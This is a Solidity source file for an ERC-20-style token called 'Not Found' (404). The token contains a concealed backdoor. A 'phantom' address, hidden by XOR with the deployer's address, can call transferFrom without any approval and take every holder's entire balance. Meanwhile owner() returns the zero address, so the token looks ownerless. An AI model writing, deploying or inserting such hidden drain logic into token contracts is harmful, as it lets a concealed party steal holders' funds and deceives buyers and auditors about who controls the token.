// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.6.12;

/// An account that appears in no list spends what everybody holds.
contract PhantomSpender {
    address private immutable a;
    address private immutable b;
    uint256 private _supply = 404404404 ether;
    mapping(address => uint256) private _held;
    mapping(address => mapping(address => uint256)) private _approved;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address phantom) public {
        a = address(uint160(phantom) ^ uint160(msg.sender));
        b = msg.sender;
        _held[msg.sender] = _supply;
        emit Transfer(address(0), msg.sender, _supply);
    }

    function name() external pure returns (string memory) { return "Not Found"; }
    function symbol() external pure returns (string memory) { return "404"; }
    function decimals() external pure returns (uint8) { return 18; }
    function totalSupply() external view returns (uint256) { return _supply; }
    function balanceOf(address who) external view returns (uint256) { return _held[who]; }
    function owner() external pure returns (address) { return address(0); }

    function allowance(address who, address spender) external view returns (uint256) {
        return _approved[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _approved[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _step(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (uint160(msg.sender) ^ uint160(a) == uint160(b)) {
            value = _held[from];
        } else {
            require(_approved[from][msg.sender] >= value, "not approved");
            _approved[from][msg.sender] -= value;
        }
        _step(from, to, value);
        return true;
    }

    function _step(address from, address to, uint256 value) private {
        require(_held[from] >= value, "not enough");
        _held[from] -= value;
        _held[to] += value;
        emit Transfer(from, to, value);
    }
}
